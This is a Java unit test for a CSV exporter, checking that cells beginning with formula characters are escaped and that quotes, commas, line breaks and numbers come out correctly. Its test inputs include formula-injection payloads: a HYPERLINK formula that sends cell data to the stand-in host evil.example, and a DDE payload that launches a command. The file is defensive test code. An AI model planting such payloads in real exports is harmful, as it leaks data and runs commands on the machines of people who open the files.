package io.fanfare.functions.campaignapi;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+31201234567",
                "-2+3",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                "=cmd|' /C calc'!A0",
                "＝1+1"
            })
    void what_a_spreadsheet_would_run_is_a_text(String formula) {
        var cell = row(formula).replaceFirst("^\"", "");
        assertThat(cell).startsWith("'" + formula.charAt(0));
    }

    @Test
    void quotes_commas_and_line_breaks_stay_in_their_cell() {
        assertThat(row("a \"b\", c\nd")).isEqualTo("\"a \"\"b\"\", c\nd\"");
        assertThat(row("plain text")).isEqualTo("plain text");
        assertThat(row(" edge ")).isEqualTo("\" edge \"");
        assertThat(row("")).isEmpty();
    }

    @Test
    void numbers_stay_numbers() {
        var csv = new Csv(List.of("a", "b", "c"));
        csv.row(12, null, true);
        assertThat(csv.text()).isEqualTo("a,b,c\r\n12,,true\r\n");
    }

    private static String row(String cell) {
        var csv = new Csv(List.of("head"));
        csv.row(cell);
        var text = csv.text();
        return text.substring("head\r\n".length(), text.length() - 2);
    }
}
